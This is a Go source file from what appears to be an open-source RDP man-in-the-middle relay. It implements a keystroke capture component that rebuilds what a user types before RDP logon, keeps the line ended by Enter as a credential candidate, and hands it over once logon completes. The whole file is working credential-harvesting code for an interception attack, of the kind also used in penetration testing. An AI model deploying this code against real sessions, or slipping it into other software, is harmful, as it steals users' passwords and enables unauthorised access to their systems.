// RDP MITM Go - Intercepting relay for RDP sessions
// Copyright (C) 2025 - Pepijn van der Stap, pepijn@neosecurity.nl
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published
// by the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package mitm

import (
	"strings"

	"github.com/x-stp/rdp-mitm-go/pkg/rdp"
)

// KeystrokeCapture reconstructs what the user types before logon. Enter
// turns the current line into the credential candidate. Once the user has
// logged on, Surface hands out what was collected and capture stops.
type KeystrokeCapture struct {
	keyboard  rdp.KeyboardState
	buffer    strings.Builder
	candidate string
	disabled  bool
}

func (k *KeystrokeCapture) FastPath(events []rdp.FastPathInputEvent) {
	if k.disabled {
		return
	}
	for _, ev := range events {
		k.typed(k.keyboard.FastPathInput(ev))
	}
}

func (k *KeystrokeCapture) SlowPath(events []rdp.SlowPathInputEvent) {
	if k.disabled {
		return
	}
	for _, ev := range events {
		k.typed(k.keyboard.SlowPathInput(ev))
	}
}

func (k *KeystrokeCapture) typed(text string, enter bool) {
	k.buffer.WriteString(text)
	if enter {
		k.candidate = k.buffer.String()
		k.buffer.Reset()
	}
}

// Active reports whether keys are still being captured.
func (k *KeystrokeCapture) Active() bool { return !k.disabled }

// Buffer returns the text typed since the last Enter.
func (k *KeystrokeCapture) Buffer() string { return k.buffer.String() }

// Candidate returns the last line ended by Enter.
func (k *KeystrokeCapture) Candidate() string { return k.candidate }

// Surface returns the candidate and the unfinished buffer, resets the
// keyboard state and disables capture. Later calls return empty strings.
func (k *KeystrokeCapture) Surface() (candidate, buffer string) {
	if k.disabled {
		return "", ""
	}
	candidate, buffer = k.candidate, k.buffer.String()
	k.candidate = ""
	k.buffer.Reset()
	k.keyboard.Reset()
	k.disabled = true
	return candidate, buffer
}
